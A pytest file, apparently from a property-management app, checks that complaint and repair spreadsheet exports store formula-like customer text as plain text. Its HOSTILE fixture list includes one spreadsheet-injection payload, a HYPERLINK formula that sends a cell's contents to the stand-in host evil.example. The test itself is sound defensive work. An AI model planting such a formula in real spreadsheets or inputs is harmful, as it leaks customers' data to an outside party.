"""No cell of any export is a formula: what a customer said is written as text, exactly as they said it."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from guanjia.cases.spreadsheets import FORMULA_TRIGGERS
from guanjia.repairs.services import RepairRequest, repair_log

from .test_exports import URL, at, last_month, register

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "=1+1",
    "+86 138 0013 8000 打不通",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def every_cell(response) -> list:
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content)
    book = load_workbook(io.BytesIO(content))  # not read-only: formulas keep their type
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("kind", ["complaints", "repairs"])
def test_s03_text_that_looks_like_a_formula_is_exported_as_text(world, api_as, kind):
    month = last_month()
    for n, text in enumerate(HOSTILE, start=1):
        when = at(month.replace(day=n + 1))
        if kind == "complaints":
            register(world, when, description=text, location=text)
        else:
            request = RepairRequest(description=text, unit=world.unit, customer=world.customer, received_at=when)
            repair_log(project=world.estate, request=request, actor=world.front_desk)
    cells = every_cell(
        api_as(world.supervisor).get(URL.format(kind), {"project": world.estate.pk, "month": f"{month:%Y-%m}"})
    )
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in HOSTILE:
        assert text.strip() in texts  # as recorded (the desk trims surrounding blanks): nothing lost, no prefix
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS))
